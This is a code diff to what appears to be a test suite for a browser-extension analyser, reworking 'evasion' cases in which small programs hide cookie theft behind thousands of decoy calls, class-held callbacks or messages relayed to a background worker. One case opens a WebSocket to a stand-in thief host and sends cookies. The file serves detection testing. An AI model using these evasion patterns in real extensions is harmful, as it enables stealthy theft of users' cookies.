@@ -6,7 +6,7 @@ export function evasionCases(): readonly Case[] {
   return casesOfPairs('evasions', [
     ...noisyValues(),
     ...rows('noise before', noiseBefore),
-    ...rows('thousands of calls before', callsBefore),
+    ...callsBefore,
     ...rows('global members', globalMembers),
     ...rows('addresses in parts', addresses),
     ...rows('queues and buffers', buffers),
@@ -93,10 +93,21 @@ const manyCalls = times(
 );
 const keptSender = `class Api { constructor(act) { this.act = act; } post(data) { return this.act(data); } }
 const box = { api: undefined }; function boot(act) { box.api = new Api(act); }`;
-const callsBefore: Codes = {
-  'a function that a class keeps': `const list = []; ${manyCalls} ${keptSender} boot((data) => { ${post('data')} }); [(data) => box.api.post(data)].forEach((act) => act(${cookie}));`,
-  'a message that a class sends': `const list = []; ${manyCalls} ${keptSender} boot((data) => { chrome.runtime.sendMessage({ kind: 'kept', data }); }); [(data) => box.api.post(data)].forEach((act) => act(${cookie}));`,
-};
+const keptBy = (act: string): string =>
+  `const list = []; ${manyCalls} ${keptSender} boot((data) => { ${act} }); [(data) => box.api.post(data)].forEach((act) => act(${cookie}));`;
+const callsBefore: readonly Pair[] = [
+  { name: 'a function that a class keeps', act: post('data'), worker: undefined },
+  {
+    name: 'a message that a class sends',
+    act: "chrome.runtime.sendMessage({ kind: 'kept', data });",
+    worker: `chrome.runtime.onMessage.addListener(({ kind, data }) => { if (kind === 'kept') ${post('data')} });`,
+  },
+].map(({ name, act, worker }) => ({
+  group: 'thousands of calls before',
+  name,
+  program: { content: { 'content.js': keptBy(act) }, ...(worker !== undefined && { worker }) },
+  fact: flow('cookies'),
+}));
 
 const globalMembers: Codes = {
   'a socket of self': `self.ws = new WebSocket('wss://${thief}/a'); self.ws.send(${cookie});`,
